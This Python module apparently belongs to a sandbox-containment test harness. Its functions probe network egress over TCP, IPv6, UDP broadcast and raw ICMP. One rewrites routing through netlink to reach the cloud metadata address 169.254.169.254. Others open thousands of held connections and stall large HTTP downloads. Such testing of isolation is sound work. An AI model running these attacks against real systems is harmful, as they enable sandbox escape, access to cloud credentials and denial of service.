"""Attacks a program makes with the kernel's own sockets."""
import errno
import os
import resource
import select
import socket
import struct

PATIENCE = 30.0


def place(to):
    host, _, port = to.rpartition(":")
    return host, int(port)


def tcp(to):
    with socket.create_connection(place(to), timeout=PATIENCE) as conn:
        return {"outcome": "connected", "detail": "%s:%d" % conn.getpeername()[:2]}


def tcp6(to):
    host, port = place(to)
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as conn:
        conn.settimeout(PATIENCE)
        conn.connect((host, port))
    return {"outcome": "connected"}


def udp(to, wait="30"):
    """An answer, an ICMP error, or silence. Errors are asked for (IP_RECVERR), so that they come for broadcasts too."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as conn:
        conn.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        conn.setsockopt(socket.IPPROTO_IP, 11, 1)
        conn.settimeout(float(wait))
        conn.connect(place(to))
        conn.send(b"let me out")
        return {"outcome": "answered", "detail": conn.recv(2048).hex()[:64]}


def icmp(to):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as conn:
        conn.setsockopt(socket.IPPROTO_IP, 11, 1)
        conn.settimeout(PATIENCE)
        conn.connect((to, 0))
        body = struct.pack("!BBHHH", 8, 0, 0, 4711, 1) + b"break out"
        total = sum(struct.unpack("!%dH" % ((len(body) + 1) // 2), body + b"\0" * (len(body) % 2)))
        total = (total & 0xFFFF) + (total >> 16)
        conn.send(body[:2] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + body[4:])
        return {"outcome": "answered", "detail": conn.recv(2048).hex()[:64]}


def metadata_route(keep="no"):
    """Takes the metadata service's address from loopback, so that packets to it leave by eth0; keep=yes gives it back."""
    body = struct.pack("=BBBBI", socket.AF_INET, 32, 0x80, 254, 1)
    for kind in (2, 1):
        body += struct.pack("=HH4s", 8, kind, socket.inet_aton("169.254.169.254"))
    kind, flags = (20, 0x405) if keep == "yes" else (21, 0x5)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as conn:
        conn.bind((0, 0))
        conn.send(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body)
        code = struct.unpack_from("=i", conn.recv(4096), 16)[0]
    return {"outcome": "done" if code == 0 else "refused", "errno": errno.errorcode.get(-code)}


def flood(to, count="3000"):
    """Connects as often and holds what it gets."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
    held, poller = [], select.poll()
    waiting = {}
    seen = {"connected": 0, "local": 0}
    for _ in range(int(count)):
        try:
            conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        except OSError:
            seen["local"] += 1
            continue
        conn.connect_ex(place(to))
        waiting[conn.fileno()] = conn
        poller.register(conn, select.POLLOUT)
    while waiting:
        ready = poller.poll(PATIENCE * 1000)
        if not ready:
            break
        for number, _ in ready:
            conn = waiting.pop(number)
            poller.unregister(number)
            code = conn.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            what = "connected" if code == 0 else errno.errorcode.get(code, str(code))
            seen[what] = seen.get(what, 0) + 1
            held.append(conn)
    silent = len(waiting)
    for conn in held + list(waiting.values()):
        conn.close()
    return {"outcome": "done", "detail": {**seen, "silent": silent}}


def hog(to, seconds="5"):
    """Asks for large pages and never reads them; sends without end on others."""
    conns = []
    for _ in range(50):
        try:
            conn = socket.create_connection(place(to), timeout=PATIENCE)
        except OSError:
            continue
        conn.sendall(b"GET /bytes/16777216 HTTP/1.1\r\nHost: www.example.com\r\n\r\n")
        conns.append(conn)
    select.select([], [], [], float(seconds))
    for conn in conns:
        conn.close()
    return {"outcome": "done", "detail": len(conns)}


ATTACKS = {
    "tcp": tcp,
    "tcp6": tcp6,
    "udp": udp,
    "icmp": icmp,
    "metadata-route": metadata_route,
    "flood": flood,
    "hog": hog,
}
